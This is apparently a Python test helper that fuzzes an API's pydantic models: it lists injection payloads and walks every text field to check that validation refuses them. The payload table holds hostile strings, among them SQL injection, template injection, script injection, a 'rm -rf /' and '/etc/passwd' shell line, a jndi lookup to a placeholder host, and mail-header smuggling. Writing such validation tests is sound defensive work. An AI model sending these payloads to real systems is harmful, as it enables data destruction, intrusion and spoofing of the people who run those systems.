"""What attackers send, and every text field that they could send it in."""

from __future__ import annotations

import copy
import types
import typing
from collections.abc import Iterator
from typing import Any

from pydantic import BaseModel, ValidationError

from schemas.problems import problems_of

# Text that means something to some program on its way. `{n}` keeps identifiers apart.
PAYLOADS = {
    "sql quote": "Robert'); DROP TABLE orders;-- ",
    "sql or": "1' OR '1'='1",
    "sql comment": "x/**/UNION/**/SELECT secret_sha256 FROM api_keys--",
    "sql like": "100%_\\",
    "sql dollar": "$1 $$; SELECT pg_sleep(9)$$",
    "jinja": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}{# c #}",
    "html": '<script>alert(1)</script><img src=x onerror="alert(1)">',
    "html attribute": '" onmouseover="alert(1)" x="',
    "html entity": "&lt;b&gt;&#x3c;script&#x3e;",
    "html comment": "--><!--[if mso]><script></script><![endif]-->",
    "css": "</style><style>body{display:none}",
    "typst": '#eval("1+1") #read("/etc/passwd") #import "x": * $ sum $ *bold* _it_ @ref <label> `raw` \\',
    "typst end": '"]) #panic("x") // /* ',
    "xml": "]]></name><evil/><![CDATA[&xxe;<!DOCTYPE a>",
    "mail header": "a@b.example>, victim@example.com <x",
    "encoded word": "=?utf-8?q?=0D=0ABcc:_victim@example.com?=",
    "smtp end": ".",
    "format": "%s%n%x {0.__class__.__init__.__globals__} ${jndi:ldap://x.example/a} $(id) `id`",
    "shell": "; rm -rf / | cat /etc/passwd && $(reboot) > /dev/null",
    "path": "../../../etc/passwd",
    "path windows": "..\\..\\C:\\con",
    "formula": "=cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "markup": "[red]x[/red] [link=https://evil.example]y[/link] [/]",
    "bidi": "abc\u202egpj.exe\u2066x\u2069",
    "invisible": "a\u200bb\ufeffc\u00add",
    "unicode": "\uff26\u0301ull \U0001d4b2idth Ω≈ç√ 田中 \U0001f4a9 \u0e01\u0e33",
    "json": '","admin":true,"x":"\\u0000\\',
    "log": '\\n{"event":"forged"} level=error',
    "long word": "W" * 180,
}
# Refused in every field of one line: what ends a line, a header or a terminal's patience.
CONTROLS = {
    "line": "a\nBcc: victim@example.com",
    "header": "a\r\nBcc: victim@example.com\r\n\r\nbody",
    "smtp smuggling": "a\r\n.\r\nMAIL FROM:<evil@example.com>",
    "nul": "a\x00b",
    "escape": "\x1b]0;owned\x07\x1b[31m",
    "c1": "a\x9b31mb",
    "separator": "a\u2028b",
}

Path = tuple[str | int, ...]
KEY = "<key>"


def text_fields(model: type[BaseModel]) -> Iterator[Path]:
    """Yield the place of every field of a body that may hold text, by its wire name; `0` stands for every item.

    Told by the types, so that a field added tomorrow is among them.
    """
    for name, info in model.model_fields.items():
        for path in _within(info.annotation):
            yield (info.alias or name, *path)


def _within(annotation: Any) -> Iterator[Path]:
    origin, arguments = typing.get_origin(annotation), typing.get_args(annotation)
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        yield from text_fields(annotation)
    elif origin is typing.Annotated:
        yield from _within(arguments[0])
    elif origin in {typing.Union, types.UnionType}:
        yield from dict.fromkeys(path for each in arguments for path in _within(each))
    elif origin is list:
        yield from ((0, *path) for path in _within(arguments[0]))
    elif origin is dict:
        yield (KEY,)
        yield from ((KEY, *path) for path in _within(arguments[1]))
    elif annotation is str:
        yield ()


def at(body: Any, path: Path) -> Any:
    """Return what stands at a path."""
    for part in path:
        body = next(iter(body)) if part == KEY and part == path[-1] else body[next(iter(body)) if part == KEY else part]
    return body


def with_text(body: dict[str, Any], path: Path, text: str) -> dict[str, Any]:
    """Return the body with a text at a path. Raise `LookupError` where the body has no such place."""
    changed = copy.deepcopy(body)
    holder: Any = changed
    for part in path[:-1]:
        holder = holder[next(iter(holder)) if part == KEY else part]
    if path[-1] == KEY:
        holder[text] = holder.pop(next(iter(holder)))
    else:
        if isinstance(holder, dict) and path[-1] not in holder:
            raise LookupError(path)
        holder[path[-1]] = text
    return changed


def problem(model: type[BaseModel], body: dict[str, Any]) -> str | None:
    """Return why the body is refused, None: it is not."""
    try:
        model.model_validate(body)
    except ValidationError as error:
        return "; ".join(problems_of(error))
    return None
